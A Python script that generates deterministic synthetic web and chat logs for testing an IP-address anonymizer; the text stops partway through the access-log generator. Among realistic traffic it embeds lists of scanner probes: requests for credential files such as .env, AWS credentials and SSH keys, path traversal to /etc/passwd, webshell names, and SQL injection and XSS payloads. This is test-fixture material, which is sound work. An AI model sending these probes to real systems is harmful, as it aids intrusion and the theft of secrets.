#!/usr/bin/env python3
"""Generate anonlog's sample logs, deterministically.

Usage:
  Scripts/generate-sample-logs.py [--out-dir DIR] [--seed N]
      Write the shipped samples into DIR (default: SampleLogs/ next to Scripts/):
        access.log.gz   combined access log of a web shop, two days across a UTC midnight
        nginx-json.log  nginx JSON-lines access log (log_format ... escape=json) of the customer portal
        chat.jsonl      live-chat widget events (session_start, page_view, message, session_end)
        truth.json      {"ips": [...], "decoys": [...]} for ../shared/tools/leakcheck.py

  Scripts/generate-sample-logs.py --format combined (--lines N | --bytes SIZE) --out FILE
                                  [--gzip] [--clients N] [--distinct-clients] [--seed N]
      Write one large combined log for benchmarks (FILE '-' is standard output). SIZE takes
      K, M or G suffixes (powers of 1024); the file stops at the last whole line that fits.
      --clients sets the size of the client pool (default 200000, at most 10000000); clients
      repeat with a Zipf-like distribution and about 10% of them are IPv6. --distinct-clients
      gives line i client i (modulo the pool) instead: no repeats, the worst case for every cache
      and the memory check's corpus (a pool of N and at least N lines: N distinct clients).

Determinism: the same arguments give byte-identical plain output on every machine and Python
version. The script uses its own PRNG (splitmix64) and integer arithmetic only (no `random`, no
floating-point transcendental functions, no wall clock, no iteration over hashed sets), and a
fixed start time, 2026-11-20T00:00:00Z, advanced by generated gaps. gzip files are written with
mtime 0 and no file name; their compressed bytes may still differ between zlib versions, so
compare them decompressed.

Probe paths and patterns are taken from crowdsecurity/sec-lists (web/, MIT, (c) CrowdSec and
Mitchell Krog) and user agents from monperrus/crawler-user-agents (MIT); see ../shared/data/.
"""

import argparse
import datetime
import gzip
import ipaddress
import json
import sys
import threading
import queue
from pathlib import Path

# ---------------------------------------------------------------------------------------------
# MARK: PRNG
# ---------------------------------------------------------------------------------------------

M64 = (1 << 64) - 1
GOLDEN = 0x9E3779B97F4A7C15
DEFAULT_SEED = 20261120


def mix64(z):
    """The splitmix64 finaliser: a bijection on 64-bit integers."""
    z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & M64
    z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & M64
    return z ^ (z >> 31)


def fnv1a(text):
    """A stable 64-bit string hash (Python's hash() is randomised per process)."""
    h = 0xCBF29CE484222325
    for b in text.encode():
        h = ((h ^ b) * 0x100000001B3) & M64
    return h


class Rng:
    """splitmix64 with small helpers; integer arithmetic only, so identical everywhere."""

    def __init__(self, seed, stream):
        # Each output has its own stream, so changing one output never shifts another.
        self.state = mix64((seed & M64) ^ fnv1a(stream))

    def next64(self):
        self.state = (self.state + GOLDEN) & M64
        return mix64(self.state)

    def below(self, n):
        """A number in [0, n)."""
        return (self.next64() * n) >> 64

    def between(self, lo, hi):
        """A number in [lo, hi]."""
        return lo + self.below(hi - lo + 1)

    def chance(self, percent):
        return self.below(1000) < int(percent * 10)

    def choice(self, seq):
        return seq[self.below(len(seq))]

    def weighted(self, pairs):
        """Pick from [(item, integer weight), ...]."""
        x = self.below(sum(w for _, w in pairs))
        for item, w in pairs:
            if x < w:
                return item
            x -= w
        raise AssertionError("unreachable")

    def gap(self, mean):
        """A skewed gap with the given mean (product of two uniforms: many short, a few long)."""
        if mean <= 0:
            return 0
        return (self.below(2 * mean + 1) * self.below(2 * mean + 1)) // mean

    def shuffled(self, seq):
        items = list(seq)
        for i in range(len(items) - 1, 0, -1):
            j = self.below(i + 1)
            items[i], items[j] = items[j], items[i]
        return items

    def sample(self, seq, k):
        return self.shuffled(seq)[:k]

    def token(self, n, alphabet="0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"):
        return "".join(alphabet[self.below(len(alphabet))] for _ in range(n))


# ---------------------------------------------------------------------------------------------
# MARK: Time
# ---------------------------------------------------------------------------------------------

START_MS = 1_795_132_800_000  # 2026-11-20T00:00:00Z
SECOND = 1000
MINUTE = 60 * SECOND
HOUR = 60 * MINUTE
DAY = 24 * HOUR
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
EPOCH = datetime.datetime(1970, 1, 1, tzinfo=datetime.timezone.utc)

# Visits per UTC hour for a European shop (integer weights).
DIURNAL = (3, 2, 1, 1, 1, 2, 4, 7, 10, 11, 11, 10, 9, 10, 11, 11, 11, 12, 13, 14, 12, 9, 6, 4)


def utc(ms):
    return EPOCH + datetime.timedelta(milliseconds=ms)


def clf_time(ms):
    """Apache/nginx %t / $time_local: 20/Nov/2026:00:00:01 +0000."""
    d = utc(ms)
    return f"{d.day:02d}/{MONTHS[d.month - 1]}/{d.year}:{d.hour:02d}:{d.minute:02d}:{d.second:02d} +0000"


def iso_seconds(ms):
    """nginx $time_iso8601: 2026-11-20T00:00:01+00:00."""
    d = utc(ms)
    return f"{d.year}-{d.month:02d}-{d.day:02d}T{d.hour:02d}:{d.minute:02d}:{d.second:02d}+00:00"


def iso_millis(ms):
    """RFC 3339 UTC with milliseconds: 2026-11-20T00:00:01.123Z."""
    d = utc(ms)
    return (f"{d.year}-{d.month:02d}-{d.day:02d}T{d.hour:02d}:{d.minute:02d}:{d.second:02d}"
            f".{ms % 1000:03d}Z")


def at(rng, day, hour, minute):
    """A scenario's start: day 0 or 1, the given UTC hour and minute, plus up to a minute of jitter."""
    return START_MS + day * DAY + hour * HOUR + minute * MINUTE + rng.below(MINUTE)


def diurnal_time(rng, day):
    """A moment on the given day (0 or 1), busier in the European daytime."""
    hour = rng.weighted(list(enumerate(DIURNAL)))
    return START_MS + day * DAY + hour * HOUR + rng.below(HOUR)


# ---------------------------------------------------------------------------------------------
# MARK: Addresses
# ---------------------------------------------------------------------------------------------

# First octets of IPv4 /8s that hold only ordinary public unicast space (no special-purpose
# block inside), spread over the five RIRs. 1, 3 and 6 are left out so that no client can equal
# a quad inside the OID decoy 1.3.6.1.4.1...
PUBLIC_V4_FIRST = (
    2, 5, 31, 37, 41, 46, 49, 58, 62, 77, 78, 79, 80, 81, 82, 84, 85, 86, 87, 88, 89, 90, 91,
    92, 93, 94, 95, 101, 102, 103, 105, 109, 110, 112, 114, 116, 118, 121, 123, 154, 176, 177,
    178, 179, 181, 185, 186, 187, 188, 189, 190, 191, 196, 197, 200, 201, 212, 213, 217,
    24, 50, 67, 68, 69, 71, 72, 73, 74, 75, 76, 96, 97, 98, 99, 107, 108, 173, 174,
)
# Residential and mobile IPv6 prefixes of large ISPs (the realistic shape of v6 clients).
PUBLIC_V6_PREFIXES = (
    0x2A028109, 0x200300E2, 0x2A01CB1D, 0x26001700, 0x2607FB90, 0x2A0023C7, 0x24090010,
    0x20011C02, 0x2804014C, 0x2A02A210, 0x2A0104F8, 0x24056980,
)


class Addresses:
    """Every address written to any output, for truth.json, and the forms to write them in."""

    def __init__(self, rng, seen):
        self.rng = rng  # each output draws its addresses from its own stream
        self.seen = seen  # canonical text -> None, shared by all outputs (a dict keeps its order)

    @staticmethod
    def canonical(text):
        a = ipaddress.ip_address(text.split("%")[0])
        if a.version == 6 and a.ipv4_mapped is not None:
            return str(a.ipv4_mapped)
        return a.compressed

    def note(self, text):
        """Record an address exactly as written (any form); returns it for inline use."""
        self.seen.setdefault(self.canonical(text), None)
        return text

    def _fresh(self, make):
        while True:
            text = make()
            if self.canonical(text) not in self.seen:
                return self.note(text)

    def public_v4(self):
        r = self.rng
        return self._fresh(lambda: f"{r.choice(PUBLIC_V4_FIRST)}.{r.below(256)}.{r.below(256)}.{r.between(1, 254)}")

    def public_v6(self):
        r = self.rng

        def make():
            value = (r.choice(PUBLIC_V6_PREFIXES) << 96) | (r.below(1 << 32) << 64) | r.next64()
            return ipaddress.IPv6Address(value).compressed
        return self._fresh(make)

    def in_v4_net(self, prefix):
        """A new host in an IPv4 /24 given as 'a.b.c.'."""
        return self._fresh(lambda: f"{prefix}{self.rng.between(2, 254)}")

    def in_v6_net(self, prefix):
        """A new host in an IPv6 /64 given as '2001:db8:1:2::' style text."""
        base = int(ipaddress.IPv6Address(prefix))
        return self._fresh(lambda: ipaddress.IPv6Address(base | (self.rng.next64() | 1)).compressed)

    def fixed(self, text):
        return self.note(text)

    def client(self, v6_percent=25):
        return self.public_v6() if self.rng.chance(v6_percent) else self.public_v4()


def v6_full(text):
    return ipaddress.IPv6Address(text).exploded


def v6_upper(text):
    return text.upper()


def percent_encoded(text):
    return text.replace(":", "%3A")


# Private hops that appear in X-Forwarded-For chains and as load balancer addresses.
LB_HOPS = ("10.0.1.5", "10.0.1.6")
PROXY_HOPS = ("10.0.0.1", "172.16.4.20", "192.168.1.10", "10.12.0.254")


# ---------------------------------------------------------------------------------------------
# MARK: Vocabulary
# ---------------------------------------------------------------------------------------------

# Strings that look like addresses but are not; they must survive anonymization unchanged.
DECOY_CHROME = "Chrome/120.0.6099.129"
DECOY_OID = "1.3.6.1.4.1.2021.10.1.3.1"
DECOY_BAD_QUAD = "999.1.1.1"
DECOY_TIME = "time=12:30:45"
DECOY_MAC = "00:1A:2B:3C:4D:5E"
DECOYS = (DECOY_CHROME, DECOY_OID, DECOY_BAD_QUAD, DECOY_TIME, DECOY_MAC)

BROWSERS = (
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", 22),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.86", 6),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", 7),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", 2),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", 8),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", 6),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", 14),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36", 14),
    ("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36", 3),
    # Android WebView keeps the full Chrome version: the browser-version decoy.
    ("Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 " + DECOY_CHROME + " Mobile Safari/537.36", 4),
    # Instagram's in-app browser: its app version 312.1.0.34.111 contains a valid dotted quad.
    ("Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.135 Mobile Safari/537.36 Instagram 312.1.0.34.111 Android (34/14; 450dpi; 1080x2340; samsung; SM-A546B; a54x; s5e8835; de_DE; 548323757)", 1),
)
BROWSER_UAS = tuple(ua for ua, _ in BROWSERS)
DECOY_BROWSER = BROWSERS[9][0]

GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_MOBILE = ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
                    "Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
BINGBOT = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
           "Chrome/116.0.1938.76 Safari/537.36")
YANDEXBOT = "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"
APPLEBOT = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
            "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)")
DUCKDUCKBOT = "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"
AHREFSBOT = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
SEMRUSHBOT = "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"
GPTBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"
CLAUDEBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"
PERPLEXITYBOT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)"
CCBOT = "CCBot/2.0 (https://commoncrawl.org/faq/)"
BYTESPIDER = ("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
              "(compatible; Bytespider; spider-feedback@bytedance.com)")
META_AGENT = "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"
CHATGPT_USER = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot"

LIBRARIES = ("curl/8.5.0", "python-requests/2.32.3", "Go-http-client/1.1", "okhttp/4.12.0", "axios/1.7.7",
             "Wget/1.21.4", "Python-urllib/3.11", "Apache-HttpClient/4.5.14 (Java/17.0.9)")
SQLMAP = "sqlmap/1.8.11#stable (https://sqlmap.org)"
NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})"
ZGRAB = "Mozilla/5.0 zgrab/0.x"
MASSCAN = "masscan/1.0 (https://github.com/robertdavidgraham/masscan)"
NUCLEI = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
WPSCAN = "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"
CENSYS = "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
OLD_CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"
HEADLESS = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Headless" + DECOY_CHROME + " Safari/537.36"

SHOP = "https://shop.example.com"
PORTAL = "https://portal.example.net"

PRODUCTS = ("router-ax3000", "router-ax5400-pro", "router-be7200", "router-be9300-gaming", "mesh-kit-ax3000-3pack",
            "mesh-kit-be5000-2pack", "switch-5p-gigabit", "switch-8p-poe", "switch-16p-poe-plus", "switch-24p-managed",
            "switch-48p-l3", "access-point-ax1800-ceiling", "access-point-be5000-wall", "access-point-outdoor-ax3000",
            "nas-2bay", "nas-4bay-plus", "ups-850va", "ups-1500va-rack", "firewall-fg60", "firewall-fg100-ha",
            "lte-modem-cat12", "5g-router-outdoor", "sfp-module-10g-sr", "sfp-module-1g-lx", "dac-cable-10g-3m",
            "patch-cable-cat6a-5m", "patch-cable-cat6a-10m", "poe-injector-60w", "rack-12u-wall", "console-cable-usb-c")
BLOG_POSTS = ("2026/11/wifi-7-explained", "2026/11/poe-budget-calculator", "2026/10/vlan-basics-for-home-labs",
              "2026/10/snmp-monitoring-in-10-minutes", "2026/09/mesh-or-access-points", "2026/09/ipv6-at-home",
              "2026/08/firmware-4-2-release-notes", "2026/08/choosing-a-ups")
STATIC = ("/static/css/app.4f1c9e2a.css", "/static/js/app.8b3d7f10.js", "/static/js/vendor.c0ffee42.js",
          "/static/fonts/inter-var.woff2", "/static/img/logo.svg", "/favicon.ico")
SEARCHES = ("poe+switch", "wifi+7+router", "mesh", "sfp%2B+10g", "ups+1500", "firewall", "r%C3%BCckgabe", "access+point+ceiling")
REFERRERS_IN = (("-", 40), ("https://www.google.com/", 30), ("https://www.bing.com/", 6), ("https://duckduckgo.com/", 6),
                ("https://www.reddit.com/r/homelab/", 3), ("https://t.co/x7Qm2aPz", 2), ("android-app://com.google.android.gm/", 2))

# From crowdsecurity/sec-lists web/ (MIT): sensitive files, admin interfaces, backdoors,
# traversal, SQLi and XSS probe patterns, dressed as the requests scanners really send.
SENSITIVE_PROBES = ("/.env", "/.env.backup", "/.env.production.local", "/.git/config", "/.git/HEAD", "/backup.sql",
                    "/db.sql.gz", "/.bash_history", "/.aws/credentials", "/.htpasswd", "/.svn/entries", "/.DS_Store",
                    "/config/aws.yml", "/secrets.json", "/.docker/config.json", "/.vscode/sftp.json", "/debug.log",
                    "/composer.lock", "/.ssh/id_rsa", "/wp-config.php.bak")
ADMIN_PROBES = ("/admin", "/manager/html", "/phpmyadmin/", "/pma/", "/wp-admin/setup-config.php", "/wp-login.php",
                "/phpinfo.php", "/boaform/admin/formLogin", "/+CSCOE+/logon.html", "/dana-na/auth/url_default/welcome.cgi",
                "/solr/admin/info/system", "/remote/login", "/sitecore/admin/login.aspx", "/web/database/manager")
BACKDOOR_PROBES = ("/alfa-rex.php", "/c99.php", "/shell.php", "/wso2.8.5.php", "/xleet.php", "/upl.php", "/r57.php",
                   "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/cmd.aspx")
TRAVERSAL_PROBES = ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/..%2f..%2f..%2f..%2fetc%2fpasswd",
                    "/static/../../../../etc/hosts", "/download?file=../../../../windows/win.ini",
                    "/index.php?page=php://filter/convert.base64-encode/resource=index.php", "/?file=/proc/self/environ")
CVE_PROBES = ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/gateway/routes", "/cgi-bin/luci/;stok=/locale",
              "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/HNAP1/", "/owa/auth/logon.aspx",
              "/geoserver/web/", "/.well-known/security.txt", "/api/v1/pods", "/server-status")
WORDPRESS_PROBES = ("/wordpress/wp-login.php", "/wp/wp-login.php", "/old/wp-admin/", "/wp-content/plugins/revslider/readme.txt",
                    "/wp-includes/wlwmanifest.xml", "/xmlrpc.php?rsd")
SQLI_PARAMS = ("1%20union%20select%20null%2cnull%2c%40%40version--", "1%27%20AND%20sleep%285%29--%20-", "1%20AND%20pg_sleep%285%29",
               "-1%20union%20all%20select%20table_name%20from%20information_schema.tables--", "1%27%20or%20%271%27%3D%271",
               "1%20AND%20benchmark%285000000%2Cmd5%281%29%29", "1%29%20AND%20extractvalue%281%2Cconcat%280x7e%2Cversion%28%29%29%29--")
XSS_PARAMS = ("%3Cscript%3Ealert%281%29%3C%2Fscript%3E", "%3Csvg%2Fonload%3Dalert%28document.domain%29%3E",
              "%22%3E%3Cimg%20src%3Dx%20onerror%3Dprompt%281%29%3E", "javascript%3Aalert%281%29", "<script>alert(1)</script>")
NIKTO_PATHS = SENSITIVE_PROBES[:8] + ADMIN_PROBES[:8] + BACKDOOR_PROBES[:4] + CVE_PROBES + (
    "/cgi-bin/test-cgi", "/cgi-bin/printenv", "/icons/README", "/servlet/snoop", "/examples/jsp/snp/snoop.jsp",
    "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", "/iisadmpwd/aexp2.htr", "/_vti_bin/shtml.dll")

# ---------------------------------------------------------------------------------------------
# MARK: Web requests, shared by the combined and the nginx JSON log
# ---------------------------------------------------------------------------------------------


class Hit:
    """One HTTP request as both web logs see it."""
    __slots__ = ("t", "seq", "remote", "xff", "user", "method", "target", "proto", "status", "size", "referer", "ua", "host")

    def __init__(self, t, remote, method, target, status, size, ua, referer="-", proto="HTTP/1.1", xff="", user="-",
                 host="shop.example.com"):
        self.t, self.remote, self.xff, self.user = t, remote, xff, user
        self.method, self.target, self.proto = method, target, proto
        self.status, self.size, self.referer, self.ua, self.host = status, size, referer, ua, host
        self.seq = 0

    def request_line(self):
        if self.method is None:  # a raw, unparsable request line (TLS handshake, junk)
            return self.target
        return f"{self.method} {self.target} {self.proto}"


def page_size(path, rng, dynamic=True):
    """Stable per path (static files do not change size), a little jitter for rendered pages."""
    base = 2_000 + fnv1a(path) % 60_000
    return base + (rng.below(400) if dynamic else 0)


class WebLog:
    """Collects hits from the scenarios; knows the site it serves."""

    def __init__(self, rng, site, host):
        self.rng, self.site, self.host = rng, site, host
        self.hits = []

    def add(self, t, remote, method, target, status, size, ua, **kw):
        kw.setdefault("host", self.host)
        self.hits.append(Hit(t, remote, method, target, status, size, ua, **kw))

    def sorted_hits(self):
        for i, h in enumerate(self.hits):
            h.seq = i
        return sorted(self.hits, key=lambda h: (h.t, h.seq))

    # -- ordinary traffic ------------------------------------------------------------------

    def page_with_assets(self, t, client, ua, path, referer, first, proto, xff=""):
        rng = self.rng
        self.add(t, client, "GET", path, 200, page_size(path, rng), ua, referer=referer, proto=proto, xff=xff)
        url = self.site + path
        assets = STATIC[:4] if first else ()
        if path.startswith("/products/") and path[10:] in PRODUCTS:
            assets += (f"/static/img/products/{path.rsplit('/', 1)[-1]}-800.webp",)
        for asset in assets:
            t += rng.between(15, 400)
            status, size = (200, page_size(asset, rng, dynamic=False)) if first or rng.chance(40) else (304, 0)
            self.add(t, client, "GET", asset, status, size, ua, referer=url, proto=proto, xff=xff)
        if first:
            t += rng.between(100, 900)
            self.add(t, client, "GET", "/favicon.ico", 200, 1150, ua, referer=url, proto=proto, xff=xff)
        return t

    def visit(self, t, client, ua, pages, xff=""):
        """A human visit: a landing page with assets, then a few more pages."""
        rng = self.rng
        proto = "HTTP/2.0" if rng.chance(80) else "HTTP/1.1"
        referer = rng.weighted(REFERRERS_IN)
        first = True
        for path in pages:
            t = self.page_with_assets(t, client, ua, path, referer, first, proto, xff)
            if path.startswith("/cart") and rng.chance(50):
                t += rng.between(300, 2000)
                self.add(t, client, "POST", "/api/v1/cart", 200, 412, ua, referer=self.site + path, proto=proto, xff=xff)
            referer, first = self.site + path, False
            t += rng.gap(40 * SECOND)
        return t

    def random_pages(self, n):
        rng = self.rng
        pages = [rng.weighted([("/", 5), ("/products/", 3), ("/blog/", 1), ("/support/", 1),
                               ("/products/" + rng.choice(PRODUCTS), 8)])]
        for _ in range(n - 1):
            pages.append(rng.weighted([
                ("/products/" + rng.choice(PRODUCTS), 10), ("/search?q=" + rng.choice(SEARCHES), 3),
                ("/blog/" + rng.choice(BLOG_POSTS) + "/", 2), ("/support/docs/snmp", 1), ("/cart", 2),
                ("/support/downloads", 1), ("/account/login", 1), ("/products/?page=" + str(rng.between(2, 6)), 2)]))
        return pages

    def crawler(self, clients, ua, count, day_span=2, with_robots=True):
        """A polite declared crawler: robots.txt, then pages spread over the days."""
        rng = self.rng
        if with_robots:
            self.add(START_MS + rng.below(2 * HOUR), clients[0], "GET", "/robots.txt", 200, 312, ua)
        if self.site == SHOP:
            paths = (["/products/" + p for p in PRODUCTS] + ["/blog/" + b + "/" for b in BLOG_POSTS]
                     + ["/", "/products/", "/support/", "/sitemap.xml", "/support/docs/snmp", "/support/mib/" + DECOY_OID])
        else:  # the portal: only its public pages are crawlable
            paths = ["/", "/login", "/signup", "/status", "/legal/privacy", "/legal/terms", "/sitemap.xml"]
        for _ in range(count):
            path = rng.choice(paths)
            status = 200 if rng.chance(92) else 304
            self.add(START_MS + rng.below(day_span * DAY), rng.choice(clients), "GET", path, status,
                     page_size(path, rng) if status == 200 else 0, ua)

    # -- abuse ------------------------------------------------------------------------------

    def probe_burst(self, t, client, ua, paths, mean_gap=600, status=404):
        """A scanner walking a list of paths that do not exist."""
        rng = self.rng
        for path in paths:
            self.add(t, client, "GET" if rng.chance(85) else "HEAD", path, status, rng.between(150, 560), ua)
            t += rng.gap(mean_gap)
        return t

    def login_bruteforce(self, t, client, ua, path, status, count, mean_gap):
        rng = self.rng
        for _ in range(count):
            self.add(t, client, "POST", path, status, rng.between(3900, 4300) if status == 200 else 61, ua,
                     referer=self.site + path.split("?")[0])
            t += rng.gap(mean_gap)
        return t

    def rate_burst(self, t, client, ua, count, limit_after, template):
        """A client hammering one endpoint; the server answers 429 once its limit is hit."""
        rng = self.rng
        for i in range(count):
            status = 200 if i < limit_after or rng.chance(10) else 429
            self.add(t, client, "GET", template.format(i % 97 + 1), status,
                     rng.between(1800, 2600) if status == 200 else 162, ua)
            t += rng.gap(120)
        return t


def probe_mix(rng, n):
    """A scanner's shopping list: sensitive files, admin panels, shells, traversal, CVEs."""
    pool = list(SENSITIVE_PROBES + ADMIN_PROBES + BACKDOOR_PROBES + TRAVERSAL_PROBES + CVE_PROBES + WORDPRESS_PROBES)
    return rng.sample([p for p in pool if p != "/wp-login.php"], n)


# ---------------------------------------------------------------------------------------------
# MARK: Output 1: combined access log (shop.example.com)
# ---------------------------------------------------------------------------------------------


def access_log_traffic(seed, addrs):
    rng = Rng(seed, "access")
    log = WebLog(rng, SHOP, "shop.example.com")
    a = addrs

    # Returning visitors (same address on both days) and one office NAT with several browsers.
    regulars = [(a.client(), rng.weighted(BROWSERS)) for _ in range(40)]
    office_nat = a.public_v4()
    for day in (0, 1):
        for client, ua in regulars:
            if day == 0 or rng.chance(75):
                log.visit(diurnal_time(rng, day), client, ua, log.random_pages(rng.between(1, 5)))
        for ua in rng.sample(BROWSER_UAS[:8], 5):
            log.visit(diurnal_time(rng, day), office_nat, ua, log.random_pages(rng.between(1, 4)))

    # One-off visitors, a quarter of them over IPv6.
    for _ in range(190):
        log.visit(diurnal_time(rng, rng.below(2)), a.client(), rng.weighted(BROWSERS),
                  log.random_pages(rng.between(1, 7)))

    # Visitors behind a proxy that the server logs as an X-Forwarded-For list in the client field.
    for hop in PROXY_HOPS[:3]:
        client = a.fixed("203.0.113.7") if hop == PROXY_HOPS[0] else a.client()
        a.note(hop)
        log.visit(diurnal_time(rng, rng.below(2)), f"{client}, {hop}", rng.weighted(BROWSERS), log.random_pages(2))
    v6_behind = a.public_v6()
    log.visit(diurnal_time(rng, 1), f"{v6_behind}, {a.note('10.0.0.1')}", BROWSER_UAS[6], log.random_pages(2))

    # IPv6 written in full and in upper case (a client seen in canonical form too), and an
    # IPv4-mapped client from a dual-stack socket.
    odd_v6 = a.public_v6()
    log.visit(diurnal_time(rng, 0), odd_v6, BROWSER_UAS[4], log.random_pages(2))
    log.visit(diurnal_time(rng, 0), v6_full(odd_v6), BROWSER_UAS[4], log.random_pages(2))
    log.visit(diurnal_time(rng, 1), v6_upper(odd_v6), BROWSER_UAS[4], log.random_pages(1))
    doc_v6 = a.fixed("2001:db8:85a3::8a2e:370:7334")
    log.visit(diurnal_time(rng, 1), doc_v6, BROWSER_UAS[7], log.random_pages(2))
    log.visit(diurnal_time(rng, 1), v6_full(doc_v6), BROWSER_UAS[7], log.random_pages(1))
    mapped = a.public_v4()
    log.visit(diurnal_time(rng, 0), "::ffff:" + mapped, BROWSER_UAS[0], log.random_pages(3))

    # Addresses inside URLs: the shop's own IP lookup tool, referers to raw-IP hosts, decoys.
    for target in (a.fixed("198.51.100.2"), a.public_v4(), a.fixed("2001:db8::1"), a.public_v6()):
        client = a.client()
        t = diurnal_time(rng, rng.below(2))
        forms = (target, percent_encoded(target)) if ":" in target else (target,)
        for form in forms:  # the form posts the address percent-encoded, a shared link has it plain
            log.add(t, client, "GET", "/tools/ip-lookup?ip=" + form, 200, 1830, BROWSER_UAS[0],
                    referer=SHOP + "/tools/ip-lookup")
            t += 2 * SECOND
    self_lookup = a.public_v4()  # "what is my IP": the query carries the client's own address
    log.add(diurnal_time(rng, 0), self_lookup, "GET", f"/tools/ip-lookup?ip={self_lookup}&format=json", 200, 96,
            "curl/8.5.0")
    admin_ip = a.fixed("203.0.113.50")
    log.add(diurnal_time(rng, 0), a.client(), "GET", "/support/downloads", 200, 5120, BROWSER_UAS[2],
            referer=f"http://{admin_ip}:8080/admin/firmware")
    bracket_v6 = a.fixed("2001:db8:1:2::5")
    log.add(diurnal_time(rng, 1), a.client(), "GET", "/support/", 200, 6400, BROWSER_UAS[5],
            referer=f"http://[{bracket_v6}]/status")
    decoy_client = a.client()
    t = diurnal_time(rng, 0)
    for target in ("/tools/ip-lookup?ip=" + DECOY_BAD_QUAD, "/tools/mac-lookup?mac=" + DECOY_MAC,
                   "/support/mib/" + DECOY_OID, "/api/v1/uptime?date=2026-11-20&" + DECOY_TIME):
        status = 422 if DECOY_BAD_QUAD in target else 200
        log.add(t, decoy_client, "GET", target, status, 740, DECOY_BROWSER, referer=SHOP + "/support/")
        t += rng.between(3, 20) * SECOND

    # Staff in the office using the back office behind HTTP basic auth (%u is set).
    t = at(rng, 1, 9, 0)
    for path in ("/admin/", "/admin/orders?status=open", "/admin/orders/10482", "/admin/stock/import"):
        log.add(t, office_nat, "GET", path, 200, page_size(path, rng), BROWSER_UAS[0], user="mkoch",
                referer=SHOP + "/admin/")
        t += rng.gap(20 * SECOND)

    # Declared crawlers from their operators' networks, AI crawlers, SEO crawlers.
    log.crawler([a.fixed(f"66.249.66.{n}") for n in (1, 7, 35)] + [a.fixed("2001:4860:4801:10::3b")], GOOGLEBOT, 90)
    log.crawler([a.fixed("66.249.68.34")], GOOGLEBOT_MOBILE, 40, with_robots=False)
    log.crawler([a.fixed("40.77.167.12"), a.fixed("157.55.39.201"), a.fixed("207.46.13.88")], BINGBOT, 60)
    log.crawler([a.fixed("5.255.231.40")], YANDEXBOT, 20)
    log.crawler([a.fixed("17.241.219.94"), a.fixed("2a01:b747:3003:200::1c")], APPLEBOT, 20)
